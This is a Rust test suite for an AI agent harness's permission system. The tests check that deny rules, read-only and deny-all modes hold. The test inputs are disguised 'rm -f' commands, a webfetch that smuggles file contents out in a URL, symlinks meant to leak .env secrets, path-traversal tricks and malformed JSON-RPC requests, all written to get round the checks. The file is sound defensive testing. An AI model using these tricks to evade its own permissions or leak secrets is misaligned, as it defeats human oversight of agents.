//! What rules and modes deny, from agents that do it all the same.

use serde_json::{Value, json};
use testkit::model_server::{calls, text};
use testkit::sdk_client::{ClientBehavior, SdkClient};

use super::{does, session};
use crate::native::{FROM_AGENT, Stage, Way, judge};
use crate::serve_rest::{Api, EXE};

fn rules(stage: &Stage, text: &str) {
    let home = stage.home.path();
    std::fs::write(home.join("rules.toml"), text).unwrap();
    std::fs::write(home.join("switchyard.toml"), "[permissions]\nrules = \"rules.toml\"\n")
        .unwrap();
}

/// The agent asks nobody, and would be allowed everything.
const UNASKED: [&str; 3] = ["--approve-all", "--mode", "auto"];

/// What the model is told about each call.
async fn results(stage: &Stage, args: &[&str], tries: &[(&'static str, Value)]) -> Vec<String> {
    for one in tries {
        stage.model.answer(calls([one.clone()]));
    }
    stage.model.answer("done");
    let ran = stage.run(&[&["go"], args].concat()).await;
    assert_eq!(ran.code, 0, "{}{}", ran.out, ran.err);
    stage.model.last_chat().tool_results()
}

#[tokio::test]
async fn a_denied_program_does_not_run_however_it_is_named() {
    let stage = Stage::new().await;
    rules(&stage, "[[rules]]\naction = \"deny\"\ncommands = [\"rm *\", \"rm\"]\n");
    stage.put("precious.txt", "precious");
    let lines = [
        "rm -f precious.txt",
        "/bin/rm -f precious.txt",
        "env rm -f precious.txt",
        "bash -c 'rm -f precious.txt'",
        "true; rm -f precious.txt",
        "'rm' -f precious.txt",
        "timeout 5 rm -f precious.txt",
        "echo precious.txt | xargs rm -f",
    ];
    let tries = lines.map(|line| ("bash", json!({ "command": line })));
    let results = results(&stage, &UNASKED, &tries).await;
    for (line, result) in lines.iter().zip(&results) {
        assert!(result.contains("denied by rule"), "{line}: {result}");
    }
    assert_eq!(stage.read("precious.txt"), "precious");
}

#[tokio::test]
async fn read_only_holds_for_every_tool_of_the_built_in_agent() {
    let stage = Stage::new().await;
    stage.put("a.txt", "a\n");
    let patch = |text: &str| json!({ "patch": format!("*** Begin Patch\n{text}\n*** End Patch") });
    let tries = [
        ("read", json!({ "path": "a.txt" })),
        ("write", json!({ "path": "new.txt", "content": "x" })),
        ("edit", json!({ "path": "a.txt", "old": "a", "new": "b" })),
        ("apply_patch", patch("*** Delete File: a.txt")),
        ("apply_patch", patch("*** Update File: a.txt\n*** Move to: b.txt\n@@\n-a\n+b")),
        ("apply_patch", patch("*** Add File: c.txt\n+c")),
        ("bash", json!({ "command": "touch d.txt" })),
    ];
    for mode in ["code", "auto"] {
        let args = ["--permissions", "read-only", "--mode", mode];
        let results = results(&stage, &args, &tries).await;
        assert!(results[0].contains('a'), "{}", results[0]);
        assert_eq!(stage.read("a.txt"), "a\n", "{mode}: {results:#?}");
        let names = std::fs::read_dir(stage.work()).unwrap().flatten();
        let names: Vec<_> = names.map(|entry| entry.file_name()).collect();
        assert_eq!(names, ["a.txt"], "{mode}: {results:#?}");
    }
}

#[tokio::test]
async fn who_may_do_nothing_reads_and_fetches_nothing() {
    for (mode, denied) in [("read-only", &[1][..]), ("deny-all", &[0, 1])] {
        let stage = Stage::new().await;
        stage.put("a.txt", "needle\n");
        let tries = [
            ("read", json!({ "path": "a.txt" })),
            ("webfetch", json!({ "url": "http://nowhere.invalid/?d=needle" })),
        ];
        let args = ["--permissions", mode, "--mode", "auto"];
        let results = results(&stage, &args, &tries).await;
        for (n, result) in results.iter().enumerate() {
            assert_eq!(result.contains("denied"), denied.contains(&n), "{mode} {n}: {result}");
        }
    }
}

#[tokio::test]
async fn moves_and_deletes_are_judged_as_such() {
    let stage = Stage::new().await;
    rules(
        &stage,
        "[[rules]]\naction = \"deny\"\nkinds = [\"edit\"]\npaths = [\"ci/**\"]\n\
         [[rules]]\naction = \"deny\"\nkinds = [\"move\"]\npaths = [\"stays.txt\"]\n",
    );
    stage.put("ci/deploy.yml", "deploy\n");
    stage.put("a.txt", "a\n");
    stage.put("stays.txt", "a\n");
    let patch = |text: &str| json!({ "patch": format!("*** Begin Patch\n{text}\n*** End Patch") });
    let tries = [
        ("read", json!({ "path": "ci/deploy.yml" })),
        ("read", json!({ "path": "a.txt" })),
        ("read", json!({ "path": "stays.txt" })),
        ("apply_patch", patch("*** Update File: a.txt\n*** Move to: ci/evil.yml\n@@\n-a\n+b")),
        ("apply_patch", patch("*** Delete File: ci/deploy.yml")),
        ("apply_patch", patch("*** Update File: stays.txt\n*** Move to: b.txt\n@@\n-a\n+b")),
        ("apply_patch", patch("*** Delete File: stays.txt")),
    ];
    let results = results(&stage, &UNASKED, &tries).await;
    for denied in &results[3..6] {
        assert!(denied.contains("denied by rule"), "{denied}");
    }
    assert!(!results[6].contains("denied"), "deleting is not moving: {}", results[6]);
    assert_eq!(stage.read("ci/deploy.yml"), "deploy\n");
    assert_eq!(stage.read("a.txt"), "a\n");
    assert!(!stage.work().join("ci/evil.yml").exists());
}

#[tokio::test]
async fn what_is_denied_is_not_told_to_the_model_behind_a_link_either() {
    let stage = Stage::new().await;
    rules(&stage, "[[rules]]\naction = \"deny\"\npaths = [\"**/.env\"]\n");
    stage.put(".env", "s3cret\n");
    stage.put(".switchyard/commands/plain.md", "a plain command");
    std::os::unix::fs::symlink(".env", stage.work().join("AGENTS.md")).unwrap();
    let link = stage.work().join(".switchyard/commands/leak.md");
    std::os::unix::fs::symlink("../../.env", link).unwrap();
    stage.model.answer_with(|_| text("done"));
    for prompt in ["go", "/leak", "/plain"] {
        let ran = stage.run(&[prompt]).await;
        assert_eq!(ran.code, 0, "{}{}", ran.out, ran.err);
    }
    let chats = stage.model.chats();
    assert!(chats.iter().all(|chat| !chat.body.to_string().contains("s3cret")), "{chats:#?}");
    assert!(chats.iter().any(|chat| chat.body.to_string().contains("a plain command")));
}

/// What an agent asks of its editor, in ways that the editor may read differently.
#[tokio::test]
async fn what_cannot_be_judged_is_not_passed_on_to_an_editor() {
    let stage = Stage::new().await;
    let asked = [
        ("fs/read_text_file", r#""path":"/a","path":"/b""#),
        ("fs/read_text_file", r#""path":".env""#),
        ("fs/read_text_file", r#""path":["/a"]"#),
        ("fs/read_text_file", r#""uri":"/a""#),
        ("fs/write_text_file", r#""path":"/a","path":"/b","content":"x""#),
        ("terminal/create", r#""command":"ls","command":"rm","args":[]"#),
        ("terminal/create", r#""command":"rm","args":null"#),
        ("terminal/create", r#""command":["rm"]"#),
        ("fs/read_text_file", r#""path":"/a\u0000b""#),
        ("fs/delete_file", r#""path":"/a""#),
        ("FS/read_text_file", r#""path":"/a""#),
        ("/fs/read_text_file", r#""path":"/a""#),
        (r"\u200bfs/read_text_file", r#""path":"/a""#),
        ("fs.read_text_file", r#""path":"/a""#),
        ("Session/Request_Permission", r#""toolCall":{"toolCallId":"t"},"options":[]"#),
        ("terminal/create", r##""command":"ls","env":[{"name":"#","value":"x"}]"##),
    ];
    // In a session and in none; as a request and as a notification.
    let sessions = [r#""sessionId":"s","#, r#""sessionId":5,"#, ""];
    let line = |id: &str, method: &str, params: &str| {
        let message =
            format!(r#"{{"jsonrpc":"2.0",{id}"method":"{method}","params":{{{params}}}}}"#);
        format!("printf '%s\\n' '{message}'")
    };
    let mut lines = Vec::new();
    for (n, (method, params)) in asked.iter().enumerate() {
        for (m, session) in sessions.iter().enumerate() {
            for id in [format!(r#""id":"q{n}-{m}","#), String::new()] {
                lines.push(line(&id, method, &format!("{session}{params}")));
            }
        }
    }
    let permission = r#""toolCall":{"toolCallId":"t"},"options":[]"#;
    lines.push(line(r#""id":"p","#, "session/request_permission", permission));
    let in_session = format!(r#""sessionId":"s",{permission}"#);
    lines.push(line("", "session/request_permission", &in_session));
    let script = format!(
        r#"while read -r line; do
        id=$(printf '%s' "$line" | sed -n 's/.*"id":\([0-9]*\).*/\1/p')
        answer() {{ printf '{{"jsonrpc":"2.0","id":%s,"result":%s}}\n' "$id" "$1"; }}
        case "$line" in
        *'"initialize"'*) answer '{{"protocolVersion":1}}';;
        *'"session/new"'*) answer '{{"sessionId":"s"}}';;
        *'"session/prompt"'*) {}
            answer '{{"stopReason":"end_turn"}}';;
        esac; done"#,
        lines.join("\n")
    );
    let program = stage.put("agent.sh", &script);
    let args = ["acp", "--no-daemon", "--permissions", "read-only", "--", "sh"];
    let mut command = stage.command(&args);
    command.arg(program);
    let client =
        SdkClient::ready(command, ClientBehavior::default().files(stage.work())).await.unwrap();
    let session = client.new_session(stage.work()).await.unwrap().session_id;
    client.prompt(&session, "go").await.unwrap();
    let (_, seen) = client.stop().await;
    let said = seen.messages(FROM_AGENT);
    let said = said.filter_map(|message| Some(message["method"].as_str()?.to_owned()));
    let said: Vec<String> = said.filter(|method| method != "session/update").collect();
    assert!(said.is_empty(), "{said:?}");
}

/// `switchyard acp` for an editor, where no daemon runs.
#[tokio::test]
async fn an_editor_with_or_without_files_and_terminals_is_held_too() {
    let denying = "[[rules]]\naction = \"deny\"\ncommands = [\"rm *\"]\n\
                   [[rules]]\naction = \"deny\"\npaths = [\"secret/**\"]\n";
    for has_all in [false, true] {
        let stage = Stage::new().await;
        rules(&stage, denying);
        stage.put("secret/key.pem", "s3cret\n");
        let tries = [
            ("bash", json!({ "command": "rm secret/key.pem" })),
            ("read", json!({ "path": "secret/key.pem" })),
            ("write", json!({ "path": "secret/key.pem", "content": "x" })),
            ("grep", json!({ "pattern": "s3cret", "path": "secret" })),
        ];
        for one in &tries {
            stage.model.answer(calls([one.clone()]));
        }
        stage.model.answer("done");
        let (client, session) = match has_all {
            false => stage.bare(Way::Acp).await,
            true => {
                let client = stage.client(Way::Acp, ClientBehavior::default()).await;
                let session = client.new_session(stage.work()).await.unwrap().session_id;
                (client, session)
            }
        };
        client.set_mode(&session, "auto").await.unwrap();
        client.prompt(&session, "go").await.unwrap();
        let results = stage.model.last_chat().tool_results();
        assert_eq!(results.len(), tries.len());
        for (one, result) in tries.iter().zip(&results) {
            assert!(!result.contains("s3cret\n"), "{has_all} {one:?}: {result}");
            let is_told =
                ["denied by rule", "may not be read"].iter().any(|by| result.contains(by));
            assert!(is_told, "{has_all} {one:?}: {result}");
        }
        assert_eq!(stage.read("secret/key.pem"), "s3cret\n");
        judge(client).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_judged_is_what_is_opened() {
    let home = testkit::test_home::switchyard(EXE);
    let rules = "[[rules]]\naction = \"deny\"\npaths = [\"secret/**\"]\n";
    std::fs::write(home.path().join("rules.toml"), rules).unwrap();
    let config = "[permissions]\nrules = \"rules.toml\"\n";
    std::fs::write(home.path().join("switchyard.toml"), config).unwrap();
    let work = home.work();
    std::fs::create_dir_all(work.join("secret/sub")).unwrap();
    std::fs::write(work.join("secret/key.pem"), "s3cret").unwrap();
    std::os::unix::fs::symlink("secret/sub", work.join("l")).unwrap();
    let api = Api::start_in(home).await;
    let id = session(&api, json!({ "permissions": "auto" })).await;
    let at = work.display();
    for path in ["l/../key.pem", "secret/key.pem", "secret/sub/../key.pem", "./secret//key.pem"] {
        let said = does(&api, &id, &format!("read {at}/{path}")).await;
        assert!(said.contains("denied by rule") && !said.contains("s3cret"), "{path}: {said}");
    }
    for path in ["l/../w2", "l/w2", "secret/w2"] {
        let said = does(&api, &id, &format!("write {at}/{path} mine")).await;
        assert!(said.contains("denied by rule"), "{path}: {said}");
    }
    assert!(!work.join("secret/w2").exists() && !work.join("secret/sub/w2").exists());
}
